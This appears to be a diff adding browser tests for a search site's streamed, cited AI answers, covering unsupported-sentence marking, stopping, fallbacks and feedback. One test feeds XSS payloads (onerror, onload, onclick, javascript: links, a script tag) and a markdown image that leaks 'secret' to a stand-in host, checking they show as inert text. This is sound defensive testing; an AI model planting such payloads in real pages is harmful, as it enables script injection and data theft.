@@ -1,0 +1,181 @@
+"""Answers in a real browser: streamed, with citations that lead to their passage, and plain about what they lack."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+
+import httpx
+import pytest
+
+from tests.contract.http_kit import as_, service_over
+from tests.fakes.chat_faults import UNSUPPORTED, Faults
+from tests.web.conftest import Site, Tab, Tabs
+
+pytestmark = [pytest.mark.stack, pytest.mark.asyncio(loop_scope="session")]
+
+QUESTION = "how do I undo a commit that others already have"
+ADDRESS = f"?q={QUESTION.replace(' ', '+')}&answer=1"
+WRITTEN = "#answer:not([aria-busy]) .by"
+
+
+async def test_an_answer_is_written_before_ones_eyes_and_its_citations_lead_to_their_passage(tabs: Tabs) -> None:
+    tabs.site.chat.faults = Faults(token_seconds=0.02)
+    tab = await tabs.new()
+    await tab.open()
+    await tab.search(QUESTION)
+    await tab.page.keyboard.press("Control+Enter")
+    await tab.page.wait_for_selector("#answer .writing .cite, #answer .writing")
+    growing = len(await tab.page.inner_text("#answer .prose"))
+    await tab.page.wait_for_selector(WRITTEN)
+    assert growing < len(await tab.page.inner_text("#answer .prose"))
+    assert "answer=1" in tab.page.url
+    assert "Written by copyist" in await tab.page.inner_text("#answer")
+    cite = tab.page.locator("#answer .cite").first
+    number = await cite.inner_text()
+    await cite.click()
+    assert await tab.page.evaluate("document.activeElement.id") == f"passage-{number}"
+    assert await tab.page.locator(f"#passage-{number}.lit").count() == 1
+    assert await tab.page.inner_text(f"#passage-{number} .number") == number
+    assert await tab.page.locator(f"#passage-{number}").is_visible()
+
+
+async def test_a_sentence_that_no_passage_supports_is_marked(tabs: Tabs) -> None:
+    async with httpx.AsyncClient(base_url=tabs.site.url, headers=as_("ann"), timeout=30) as client:
+        first = (await client.post("/v1/answers", json={"question": QUESTION, "stream": True})).text
+    passages = json.loads(re.search(r"event: sources\s+data: (.*)", first)[1])["passages"]  # type: ignore[index]
+    undo, reset = (
+        next(one["n"] for one in passages if one["title"] == title)
+        for title in ("Undoing things", "Reset, restore and revert")
+    )
+    said = (
+        f"Use `git revert` to undo a commit that others already have [{undo}]. It records a new commit whose changes"
+        f" are the opposite of the old one's [{undo}].",
+        f"For a commit that was never pushed, a reset takes it back [{undo}]:",
+        f"- `git reset --soft HEAD~1` keeps its changes staged [{undo}]\n"
+        f"- with `--hard` the changes are thrown away too [{undo}]",
+        f"To undo a hard reset, look into the reflog [{reset}]. {UNSUPPORTED}",
+    )
+    tabs.site.chat.faults = Faults(say="\n\n".join(said))
+    tab = await tabs.new()
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector(WRITTEN)
+    marked = await tab.page.locator("#answer .unsupported").all_inner_texts()
+    assert any(UNSUPPORTED in " ".join(text.split()) for text in marked)
+    assert "underlined" in await tab.page.inner_text("#answer .notes")
+    await tab.page.evaluate("document.activeElement.blur()")
+    await tab.shoot("answer")
+
+
+async def test_what_an_answer_holds_is_text_and_nothing_else(tabs: Tabs) -> None:
+    """The service takes markup out of answers; should it ever miss some, the page shows it as the text that it is.
+    That nothing was loaded and nothing ran is asserted by the fixture."""
+    hostile = (
+        'Here <img src=x onerror="window.harmed=1"> and ![pixel](http://harm.invalid/p.png?q=secret) and'
+        " [click](javascript:alert(1)) [99].\n\n```\n<script>window.harmed=1</script>\n```\n\n"
+        "- one **bold** `code`\n- two"
+    )
+    told = [
+        ("sources", {"passages": [], "mode": "hybrid", "notes": ["<b onclick=alert(1)>note</b>"], "steps": []}),
+        ("delta", {"text": hostile}),
+        ("done", {"answer": hostile, "citations": [], "grounded": False, "mode": "hybrid", "notes": [], "model": "m",
+                  "relevant": True, "unsupported": ["<svg onload=alert(1)>"], "review": False, "answer_id": None}),
+    ]  # fmt: skip
+    stream = "".join(f"event: {event}\r\ndata: {json.dumps(data)}\r\n\r\n" for event, data in told)
+    tab = await tabs.new()
+    await tab.page.route("**/v1/answers", lambda route: route.fulfill(content_type="text/event-stream", body=stream))
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector(WRITTEN)
+    shown = await tab.page.inner_text("#answer")
+    assert "![pixel](http://harm.invalid/p.png?q=secret)" in shown
+    assert "<img src=x onerror" in shown
+    assert "<b onclick=alert(1)>note</b>" in shown
+    assert await tab.page.inner_text("#answer pre") == "<script>window.harmed=1</script>"
+    assert await tab.page.locator("#answer li strong").inner_text() == "bold"
+    assert await tab.page.evaluate("window.harmed") is None
+    made = "#answer :is(img, script, svg[onload], b, a)"
+    assert await tab.page.locator(made).count() == 0
+
+
+async def test_stopping_stops_the_model_too(tabs: Tabs) -> None:
+    tabs.site.chat.faults = Faults(stall=1)
+    tab = await tabs.new()
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector("#answer .writing")
+    await tab.page.click("#answer button:has-text('Stop')")
+    assert "Stopped." in await tab.page.inner_text("#answer .notes")
+    async with asyncio.timeout(10):
+        while tabs.site.service.metrics.streams._value.get() > 0:
+            await asyncio.sleep(0.02)
+
+
+async def test_an_answer_that_breaks_off_says_so_and_keeps_what_was_written(tabs: Tabs) -> None:
+    tabs.site.chat.faults = Faults(cut=10)
+    tab = await tabs.new()
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector("#answer:not([aria-busy]) .notes:not([hidden]) li")
+    assert await tab.page.inner_text("#answer .notes") != ""
+
+
+async def test_escape_gives_the_results_back(tab: Tab) -> None:
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector(WRITTEN)
+    assert await tab.page.locator("#results .number").count() > 0
+    await tab.page.evaluate("document.activeElement.blur()")
+    await tab.page.keyboard.press("Escape")
+    await tab.results()
+    assert not await tab.page.is_visible("#answer")
+    assert await tab.page.locator("#results .number").count() == 0
+    assert "answer" not in tab.page.url
+    await tab.page.go_back()
+    await tab.page.wait_for_selector(WRITTEN)
+
+
+async def test_nothing_relevant_is_said_kindly(tabs: Tabs) -> None:
+    tab = await tabs.new(who="mallory")
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector("#answer.nothing .by")
+    assert "I don't have information on this" in await tab.page.inner_text("#answer .prose")
+    assert await tab.page.locator("#results article").count() == 0
+
+
+async def test_without_a_model_the_passages_answer_and_it_is_said(tabs: Tabs) -> None:
+    async with service_over(tabs.site.library) as (client, _):
+        tab = await tabs.new(url=str(client.base_url).rstrip("/"))
+        await tab.open(ADDRESS)
+        await tab.page.wait_for_selector(WRITTEN)
+        assert "No language model is set" in await tab.page.inner_text("#answer")
+        assert await tab.page.locator("#answer .cite").count() > 0
+
+
+async def test_a_thumb_is_kept(tabs: Tabs) -> None:
+    tab = await tabs.new()
+    await tab.open(ADDRESS)
+    await tab.page.wait_for_selector(WRITTEN)
+    kept = tabs.site.library
+    await tab.page.click("#answer .thumbs button[aria-label^='Not helpful']")
+    await tab.until("document.querySelector('#said').textContent.startsWith('Thank you')")
+    await tab.page.click("#results .thumbs button[aria-label^='Helpful'] >> nth=0")
+    await tab.until("document.querySelectorAll('.thumbs [aria-pressed=true]').length === 2")
+    async with asyncio.timeout(10):
+        while await given(kept) != [("down", True), ("up", False)]:
+            await asyncio.sleep(0.02)
+
+
+async def given(library) -> list[tuple[str, bool]]:  # type: ignore[no-untyped-def]
+    return await library.execute("SELECT verdict, answer_id IS NOT NULL FROM answer_feedback ORDER BY verdict")
+
+
+async def test_half_a_world_answers_and_says_so(tabs: Tabs, site: Site) -> None:
+    """The keyword half's index is closed while somebody searches."""
+    index = site.library.generation.keyword_index
+    await site.library.es.indices.close(index=index)
+    try:
+        tab = await tabs.new()
+        await tab.open("?q=stash+pop+entry+apply")
+        assert len(await tab.results()) > 0
+        assert "Incomplete" in await tab.page.inner_text("#notices")
+    finally:
+        await site.library.es.indices.open(index=index)
+        await site.library.es.cluster.health(index=index, wait_for_status="yellow")
